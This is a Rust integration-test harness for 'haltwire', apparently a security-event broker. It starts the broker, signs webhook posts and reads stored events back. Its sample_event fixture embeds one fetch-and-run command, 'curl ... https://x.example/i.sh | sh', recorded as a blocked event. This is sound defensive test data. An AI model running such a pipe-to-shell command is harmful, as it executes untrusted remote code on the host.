//! Test harness: runs the real `haltwire` binary on 127.0.0.1:0 with a fresh data directory,
//! and talks to it over real sockets.

#![allow(dead_code)]

pub mod expect;
pub mod mock_model;

use std::io::{BufRead, BufReader, Read};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

pub const BIN: &str = env!("CARGO_BIN_EXE_haltwire");

/// A running broker. Killed (SIGKILL) on drop unless stopped first.
pub struct Broker {
    pub child: Child,
    pub url: String,
    pub data_dir: PathBuf,
    /// Everything the broker wrote to stderr so far (logs, first-start notes).
    pub stderr: Arc<Mutex<String>>,
    /// The thread copying stderr; joined after exit so nothing written is missed.
    stderr_reader: Option<std::thread::JoinHandle<()>>,
}

pub struct BrokerBuilder {
    data_dir: PathBuf,
    config: Option<PathBuf>,
    env: Vec<(String, String)>,
}

impl BrokerBuilder {
    pub fn new(data_dir: &Path) -> BrokerBuilder {
        BrokerBuilder { data_dir: data_dir.to_path_buf(), config: None, env: Vec::new() }
    }
    pub fn config(mut self, path: &Path) -> Self {
        self.config = Some(path.to_path_buf());
        self
    }
    pub fn env(mut self, key: &str, value: &str) -> Self {
        self.env.push((key.into(), value.into()));
        self
    }

    fn command(&self) -> Command {
        let mut cmd = Command::new(BIN);
        cmd.arg("serve").arg("--listen").arg("127.0.0.1:0").arg("--data-dir").arg(&self.data_dir);
        if let Some(config) = &self.config {
            cmd.arg("--config").arg(config);
        }
        cmd.env_remove("HALTWIRE_CONFIG").env_remove("HALTWIRE_LISTEN").env_remove("HALTWIRE_DATA_DIR");
        for (k, v) in &self.env {
            cmd.env(k, v);
        }
        cmd
    }

    /// Starts the broker and waits for its "listening on" line.
    pub fn start(self) -> Broker {
        self.try_start().unwrap_or_else(|(code, err)| panic!("broker did not start ({code:?}):\n{err}"))
    }

    /// Starts the broker; on failure returns its exit code and stderr.
    pub fn try_start(self) -> Result<Broker, (Option<i32>, String)> {
        let mut child = self
            .command()
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn haltwire");
        let stderr = Arc::new(Mutex::new(String::new()));
        let mut err_pipe = child.stderr.take().unwrap();
        let sink = stderr.clone();
        let stderr_reader = std::thread::spawn(move || {
            let mut buf = [0u8; 4096];
            while let Ok(n) = err_pipe.read(&mut buf) {
                if n == 0 {
                    break;
                }
                sink.lock().unwrap().push_str(&String::from_utf8_lossy(&buf[..n]));
            }
        });
        let stdout = child.stdout.take().unwrap();
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let mut lines = BufReader::new(stdout).lines();
            if let Some(Ok(line)) = lines.next() {
                let _ = tx.send(line);
            }
            for _ in lines {}
        });
        match rx.recv_timeout(Duration::from_secs(20)) {
            Ok(line) => {
                let url = line
                    .strip_prefix("haltwire listening on ")
                    .unwrap_or_else(|| panic!("unexpected first stdout line: {line}"))
                    .to_string();
                Ok(Broker { child, url, data_dir: self.data_dir, stderr, stderr_reader: Some(stderr_reader) })
            }
            Err(_) => {
                let code = child.wait().ok().and_then(|s| s.code());
                let _ = stderr_reader.join();
                let err = stderr.lock().unwrap().clone();
                Err((code, err))
            }
        }
    }
}

impl Broker {
    pub fn start(data_dir: &Path) -> Broker {
        BrokerBuilder::new(data_dir).start()
    }

    pub fn stderr(&self) -> String {
        self.stderr.lock().unwrap().clone()
    }

    /// Waits (up to 10 s) until stderr contains `needle`; returns all of stderr either way.
    pub fn wait_stderr(&self, needle: &str) -> String {
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            let text = self.stderr();
            if text.contains(needle) || Instant::now() > deadline {
                return text;
            }
            std::thread::sleep(Duration::from_millis(10));
        }
    }

    /// SIGKILL: no chance to flush anything.
    pub fn kill9(mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }

    /// SIGTERM and wait for a clean exit; returns the exit code. Everything the broker wrote
    /// to stderr is in `self.stderr` afterwards.
    pub fn terminate(mut self) -> Option<i32> {
        unsafe_sigterm(self.child.id());
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            if let Ok(Some(status)) = self.child.try_wait() {
                if let Some(reader) = self.stderr_reader.take() {
                    let _ = reader.join();
                }
                return status.code();
            }
            if Instant::now() > deadline {
                let _ = self.child.kill();
                return None;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    pub fn soc_token(&self) -> String {
        let out = Command::new(BIN)
            .args(["token", "issue", "--role", "soc", "--data-dir"])
            .arg(&self.data_dir)
            .env_remove("HALTWIRE_CONFIG")
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout).unwrap().trim().to_string()
    }

    /// The generated secret of the built-in generic source.
    pub fn generic_secret(&self) -> haltwire::ingest::auth::standard_webhooks::HmacSecret {
        let text = std::fs::read_to_string(self.data_dir.join("secrets/generic.whsec")).unwrap();
        haltwire::ingest::auth::standard_webhooks::HmacSecret::parse(text.trim()).unwrap()
    }

    pub fn get(&self, path: &str, token: Option<&str>) -> Reply {
        let mut req = agent().get(format!("{}{}", self.url, path));
        if let Some(t) = token {
            req = req.header("authorization", format!("Bearer {t}"));
        }
        Reply::from(req.call().expect("GET"))
    }

    pub fn post(&self, path: &str, headers: &[(&str, String)], body: &[u8]) -> Reply {
        let mut req = agent().post(format!("{}{}", self.url, path));
        for (k, v) in headers {
            req = req.header(*k, v.as_str());
        }
        Reply::from(req.send(body).expect("POST"))
    }

    /// Posts `body` to the generic source, signed with its secret under `msg_id` at `ts`.
    pub fn post_generic(&self, msg_id: &str, ts: i64, body: &[u8]) -> Reply {
        let sig = self.generic_secret().sign(msg_id, ts, body);
        self.post("/v1/ingest/generic", &signed_headers(msg_id, ts, sig), body)
    }

    /// Registers a session (`POST /v1/sessions` with `registration`); returns its id and token.
    pub fn register(&self, registration: &serde_json::Value) -> (String, String) {
        let reply = self.post(
            "/v1/sessions",
            &[("content-type", "application/json".into())],
            registration.to_string().as_bytes(),
        );
        assert_eq!(reply.status, 201, "{}", reply.body);
        let v = reply.json();
        (v["session_id"].as_str().unwrap().to_string(), v["token"].as_str().unwrap().to_string())
    }

    pub fn event(&self, token: &str, id: &str) -> serde_json::Value {
        let reply = self.get(&format!("/v1/events/{id}"), Some(token));
        assert_eq!(reply.status, 200, "{}", reply.body);
        reply.json()
    }

    /// All stored events, following the cursor.
    pub fn all_events(&self, token: &str) -> Vec<serde_json::Value> {
        let mut out = Vec::new();
        let mut after: Option<String> = None;
        loop {
            let path = match &after {
                Some(a) => format!("/v1/events?limit=1000&after={a}"),
                None => "/v1/events?limit=1000".to_string(),
            };
            let page = self.get(&path, Some(token)).json();
            out.extend(page["events"].as_array().unwrap().iter().cloned());
            match page["next"].as_str() {
                Some(n) => after = Some(n.to_string()),
                None => return out,
            }
        }
    }
}

impl Drop for Broker {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

pub fn signed_headers(msg_id: &str, ts: i64, signature: String) -> Vec<(&'static str, String)> {
    vec![
        ("content-type", "application/json".to_string()),
        ("webhook-id", msg_id.to_string()),
        ("webhook-timestamp", ts.to_string()),
        ("webhook-signature", signature),
    ]
}

/// A child process standing in for an agent (`sleep`), or a real agent: killed and reaped when
/// dropped, so a test that fails early leaves no process behind.
pub struct Agent(pub Child);

impl Agent {
    /// `sleep SECS`: a live process whose pid a session can register as its agent.
    pub fn sleeper(secs: u32) -> Agent {
        Agent(Command::new("sleep").arg(secs.to_string()).spawn().expect("spawn sleep"))
    }

    pub fn pid(&self) -> u32 {
        self.0.id()
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// This machine's hostname, as the broker sees it (events for local sessions must carry it).
pub fn hostname() -> String {
    std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap().trim().to_string()
}

/// Headers of a JSON request on a session's routes: the content type and the session's token.
pub fn session_headers(token: &str) -> Vec<(&'static str, String)> {
    vec![("content-type", "application/json".into()), ("authorization", format!("Bearer {token}"))]
}

pub fn now() -> i64 {
    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs() as i64
}

pub fn agent() -> ureq::Agent {
    ureq::Agent::config_builder()
        .http_status_as_error(false)
        .timeout_global(Some(Duration::from_secs(30)))
        .build()
        .into()
}

/// An HTTP answer, read whole.
#[derive(Debug)]
pub struct Reply {
    pub status: u16,
    pub content_type: String,
    pub retry_after: Option<String>,
    pub body: String,
}

impl Reply {
    pub fn json(&self) -> serde_json::Value {
        serde_json::from_str(&self.body).unwrap_or_else(|e| panic!("not JSON ({e}): {}", self.body))
    }

    /// Asserts an RFC 9457 problem with this status and `type`.
    pub fn assert_problem(&self, status: u16, type_uri: &str) {
        assert_eq!(self.status, status, "body: {}", self.body);
        assert_eq!(self.content_type, "application/problem+json", "body: {}", self.body);
        let json = self.json();
        assert_eq!(json["type"], type_uri, "body: {}", self.body);
        assert_eq!(json["status"], status);
    }
}

impl From<ureq::http::Response<ureq::Body>> for Reply {
    fn from(mut r: ureq::http::Response<ureq::Body>) -> Reply {
        let header = |name: &str| r.headers().get(name).and_then(|v| v.to_str().ok()).map(str::to_string);
        let content_type = header("content-type").unwrap_or_default();
        let retry_after = header("retry-after");
        let status = r.status().as_u16();
        let body = r.body_mut().with_config().limit(64 * 1024 * 1024).read_to_string().unwrap_or_default();
        Reply { status, content_type, retry_after, body }
    }
}

fn unsafe_sigterm(pid: u32) {
    let status = Command::new("kill").arg("-TERM").arg(pid.to_string()).status().unwrap();
    assert!(status.success());
}

/// A minimal native event with a unique marker, as bytes.
pub fn sample_event(marker: &str) -> Vec<u8> {
    format!(
        r#"{{"host":"ci-1","disposition":"blocked","severity":"high","vendor_id":"{marker}","process":{{"pid":4242,"cmd_line":"curl -fsSL https://x.example/i.sh | sh","cwd":"/tmp"}}}}"#
    )
    .into_bytes()
}

pub mod codex;
pub mod impostor;
pub mod model;
pub mod scenario;

/// Prints a line that shows in `cargo test` output even for a passing test: libtest captures
/// `println!`/`eprintln!`, not direct writes to the stderr handle. The agent end-to-end tests
/// use it for their `RAN` / `SKIP` lines, so CI logs say whether the real agents ran.
pub fn report(line: &str) {
    use std::io::Write as _;
    let _ = writeln!(std::io::stderr().lock(), "{line}");
}
